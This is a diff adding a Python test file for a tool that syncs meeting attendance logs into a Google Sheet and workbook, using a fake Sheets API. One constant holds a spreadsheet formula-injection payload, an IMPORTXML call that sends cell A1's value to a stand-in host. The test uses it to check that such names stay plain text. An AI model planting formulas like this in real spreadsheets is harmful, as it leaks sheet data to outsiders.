@@ -1,0 +1,266 @@
+"""The shared sheet through the real gspread and google-auth, against a stateful fake Sheets API."""
+
+from __future__ import annotations
+
+import csv
+import json
+
+import openpyxl
+import pytest
+from click.testing import CliRunner
+
+from tests.fakes.server import Server
+from tests.fakes.sheets import FakeSheets
+from vc_sync.cli import cli
+
+EVIL = '=IMPORTXML("http://x.example/?q="&A1,"//a")'
+
+
+@pytest.fixture
+def sheets(programme):
+    app = FakeSheets()
+    with Server(app) as server:
+        programme.write(
+            "google.json",
+            json.dumps(
+                {
+                    "type": "authorized_user",
+                    "client_id": "cid.apps.googleusercontent.com",
+                    "client_secret": "gsecret-77",
+                    "refresh_token": "1//refresh-token-xyz",
+                    "token_uri": f"{server.url}/token",
+                }
+            ),
+        )
+        programme.edit(
+            "config.toml",
+            'xlsx = "out/attendance.xlsx"',
+            f'''xlsx = "out/attendance.xlsx"
+sheet = "https://docs.google.com/spreadsheets/d/{app.id}/edit#gid=0"
+credentials = "google.json"
+endpoint = "{server.url}"
+max_attempts = 4''',
+        )
+        yield app
+
+
+def sync(programme, *extra: str, code: int = 0):
+    result = CliRunner().invoke(cli, ["sync", "--config", str(programme.config), "--session", "S1", *extra])
+    assert result.exit_code == code, result.output
+    return result
+
+
+def test_first_sync_builds_the_tabs_in_four_requests(programme, sheets):
+    sync(programme)
+    assert [t.title for t in sorted(sheets.tabs, key=lambda t: t.index)] == [
+        "Summary",
+        "Session S1",
+        "Review",
+        "Choices",
+    ]
+    assert sheets.calls() == {"get": 1, "batchUpdate": 1, "values.batchUpdate": 1}
+    s1 = sheets.tab("Session S1")
+    assert s1.value("i-R001", "Status") == "verified" and s1.value("i-R001", "Minutes") == 148
+    assert s1.frozen == 1 and s1.basic_filter is not None and s1.conditional
+    (check,) = s1.validations
+    assert check["rule"]["condition"] == {
+        "type": "ONE_OF_RANGE",
+        "values": [{"userEnteredValue": "='Choices'!$A$2:$A"}],
+    }
+    assert all(w["valueInputOption"] == "RAW" for w in sheets.value_writes())
+
+
+def test_the_sheet_and_the_workbook_hold_the_same_rows(programme, sheets):
+    sync(programme)
+    book = openpyxl.load_workbook(programme.xlsx)
+    for title in ("Session S1", "Review", "Summary", "Choices"):
+        in_book = [[v for v in row] for row in book[title].iter_rows(values_only=True)]
+        in_book = [[("" if v is None else v) for v in row] for row in in_book]
+        in_sheet = sheets.tab(title).grid()
+        assert [r + [""] * (len(in_book[0]) - len(r)) for r in in_sheet] == in_book, title
+
+
+def test_a_rerun_with_nothing_changed_writes_nothing(programme, sheets):
+    sync(programme)
+    sheets.requests.clear()
+    result = sync(programme)
+    assert sheets.calls() == {"get": 1, "batchGet": 1}
+    assert "Session S1: 0 added, 0 updated, 8 unchanged" in result.output
+
+
+def test_a_changed_log_updates_only_what_changed(programme, sheets):
+    sync(programme)
+    sheets.requests.clear()
+    programme.edit(
+        "s1.csv",
+        "Sri Wahyuni (Dinpar Bantul),,04/14/2020 09:00:00 AM,04/14/2020 09:30:00 AM",
+        "Sri Wahyuni (Dinpar Bantul),,04/14/2020 09:00:00 AM,04/14/2020 11:00:00 AM",
+    )
+    sync(programme)
+    assert sheets.calls() == {"get": 1, "batchGet": 1, "values.batchUpdate": 1}
+    (write,) = sheets.value_writes()
+    ranges = [d["range"] for d in write["data"]]
+    assert all(r.startswith(("'Session S1'!", "'Summary'!")) for r in ranges)
+    s1 = sheets.tab("Session S1")
+    assert s1.value("i-R003", "Status") == "verified" and s1.value("i-R003", "Minutes") == 120
+
+
+def test_organisers_columns_notes_and_formatting_survive(programme, sheets):
+    sync(programme)
+    s1 = sheets.tab("Session S1")
+    row = s1.row_of("i-R002")
+    s1.cells[(0, 13)] = "Catatan"  # an organiser's column, after the Override column
+    s1.cells[(row, 13)] = "datang terlambat"
+    s1.notes[(row, 1)] = "cek ulang"
+    s1.formats[(row, 2)] = {"backgroundColor": {"red": 1}}
+    s1.cells[(40, 0)] = ""  # an organiser's own row far below, no key
+    s1.cells[(40, 2)] = "Rapat koordinasi"
+    programme.edit(
+        "s1.csv",
+        "Sri Wahyuni (Dinpar Bantul),,04/14/2020 09:00:00 AM,04/14/2020 09:30:00 AM",
+        "Sri Wahyuni (Dinpar Bantul),,04/14/2020 09:00:00 AM,04/14/2020 11:00:00 AM",
+    )
+    programme.write(
+        "s1.csv",
+        (programme.root / "s1.csv").read_text()
+        + "Tamu Baru,,04/14/2020 09:00:00 AM,04/14/2020 09:30:00 AM,30,Yes,\n",
+    )
+    sync(programme)
+    assert s1.cells[(row, 13)] == "datang terlambat" and s1.cells[(0, 13)] == "Catatan"
+    assert s1.notes[(row, 1)] == "cek ulang" and s1.formats[(row, 2)] == {"backgroundColor": {"red": 1}}
+    assert s1.cells[(40, 2)] == "Rapat koordinasi"
+    new = s1.row_of(
+        next(
+            k
+            for (r, c), k in s1.cells.items()
+            if c == 0
+            and r > 0
+            and str(k).startswith("p-")
+            and s1.cells.get((r, s1.column("Display names"))) == "Tamu Baru"
+        )
+    )
+    assert new == 41  # below the organiser's row, not over it
+
+
+def test_a_dropdown_choice_is_read_back_and_applied(programme, sheets):
+    sync(programme)
+    review = sheets.tab("Review")
+    keys = [review.cells[(r, 0)] for r in range(1, 3)]
+    first = keys[0]
+    review.cells[(review.row_of(first), review.column("Assign"))] = (
+        "R003 · Sri Wahyuni · Dinas Pariwisata Kabupaten Bantul"
+    )
+    review.cells[(review.row_of(keys[1]), review.column("Assign"))] = "ignore"
+    result = sync(programme)
+    assert "warning" not in result.output
+    with open(programme.root / "overrides.csv", encoding="utf-8") as fh:
+        saved = sorted((r["participant"], r["assign"], r["session"]) for r in csv.DictReader(fh))
+    assert saved == sorted([(first.split("/")[1], "R003", "S1"), (keys[1].split("/")[1], "ignore", "S1")])
+    s1 = sheets.tab("Session S1")
+    rows = {s1.cells.get((r, s1.column("Key"))): r for r in range(1, 20) if s1.cells.get((r, 0))}
+    statuses = {k: s1.cells.get((r, s1.column("Status"))) for k, r in rows.items()}
+    methods = {k: s1.cells.get((r, s1.column("Method"))) for k, r in rows.items()}
+    assert "ignored" in statuses.values()
+    assert methods.get("i-R003") == "override"
+
+
+def test_a_pick_that_names_nothing_is_a_warning_not_a_failure(programme, sheets):
+    sync(programme)
+    review = sheets.tab("Review")
+    review.cells[(1, review.column("Assign"))] = "someone"
+    result = sync(programme)
+    assert "warning: Review: row 2: 'someone' names no invitee, agency or ignore; skipped" in result.output
+
+
+def test_formula_like_names_stay_text(programme, sheets):
+    programme.edit(
+        "s1.csv",
+        "Galaxy A51,,04/14/2020 09:12:00 AM",
+        '"' + EVIL.replace('"', '""') + '",,04/14/2020 09:12:00 AM',
+    )
+    sync(programme)
+    for title in ("Session S1", "Review"):
+        tab = sheets.tab(title)
+        spots = [rc for rc, v in tab.cells.items() if v == EVIL]
+        assert spots and not (set(spots) & tab.formulas)
+
+
+def test_a_429_storm_is_survived_within_bounds(programme, sheets):
+    storm = {
+        "error": {
+            "code": 429,
+            "status": "RESOURCE_EXHAUSTED",
+            "message": "Quota exceeded",
+            "details": [{"reason": "RATE_LIMIT_EXCEEDED"}],
+        }
+    }
+    sheets.fail("values:batchUpdate", 429, storm, {"Retry-After": "0"}, times=3, method="POST")
+    sync(programme)
+    assert sheets.calls()["values.batchUpdate"] == 4
+    sheets.fail("spreadsheets/", 429, storm, {"Retry-After": "0"}, times=50)
+    result = sync(programme, code=1)
+    assert (
+        result.output.strip()
+        .splitlines()[-1]
+        .startswith("error: sheets: read metadata: HTTP 429 RESOURCE_EXHAUSTED")
+    )
+    assert "gave up after 4 attempts" in result.output
+
+
+def test_request_count_does_not_grow_with_rows(programme, sheets):
+    def log(n: int) -> str:
+        head = "Name (Original Name),User Email,Join Time,Leave Time,Duration (Minutes),Guest\n"
+        return head + "".join(
+            f"Tamu {i:05d} Wibowo,,04/14/2020 09:00:00 AM,04/14/2020 10:00:00 AM,60,Yes\n" for i in range(n)
+        )
+
+    counts = []
+    for n in (10, 5000):
+        sheets.tabs.clear()
+        sheets.requests.clear()
+        programme.write("s1.csv", log(n))
+        sync(programme)
+        counts.append(sheets.calls())
+        assert len(sheets.tab("Review").grid()) == n + 1
+    assert counts[0] == counts[1] == {"get": 1, "batchUpdate": 1, "values.batchUpdate": 1}
+
+
+def test_a_vanished_person_is_kept_unless_forced(programme, sheets):
+    sync(programme)
+    text = (programme.root / "s1.csv").read_text()
+    programme.write(
+        "s1.csv", "\n".join(ln for ln in text.splitlines() if not ln.startswith("Ibu Damayani")) + "\n"
+    )
+    result = sync(programme)
+    assert "1 no longer in the log, kept" in result.output
+    s1 = sheets.tab("Session S1")
+    assert s1.value("i-R006", "Status") == "organiser"
+    result = sync(programme, "--force")
+    assert "1 removed" in result.output
+    assert "i-R006" not in [v for (r, c), v in s1.cells.items() if c == 0]
+
+
+def test_dry_run_reads_but_writes_nothing(programme, sheets):
+    result = sync(programme, "--dry-run")
+    assert "would change Session S1: 8 added" in result.output
+    assert sheets.calls() == {"get": 1} and not sheets.tabs
+    assert not programme.xlsx.exists()
+
+
+def test_an_empty_report_does_not_wipe_a_tab(programme, sheets):
+    sync(programme)
+    programme.write(
+        "s1.csv", "Name (Original Name),User Email,Join Time,Leave Time,Duration (Minutes),Guest\n"
+    )
+    sync(programme)
+    s1 = sheets.tab("Session S1")
+    assert s1.value("i-R001", "Status") == "verified"
+
+
+def test_secrets_stay_out_of_requests_and_output(programme, sheets):
+    result = CliRunner().invoke(
+        cli, ["--verbose", "sync", "--config", str(programme.config), "--session", "S1"]
+    )
+    assert result.exit_code == 0, result.output
+    assert "gsecret-77" not in result.output and "refresh-token-xyz" not in result.output
+    assert all(b"gsecret-77" not in r.body for r in sheets.requests if r.path != "/token")
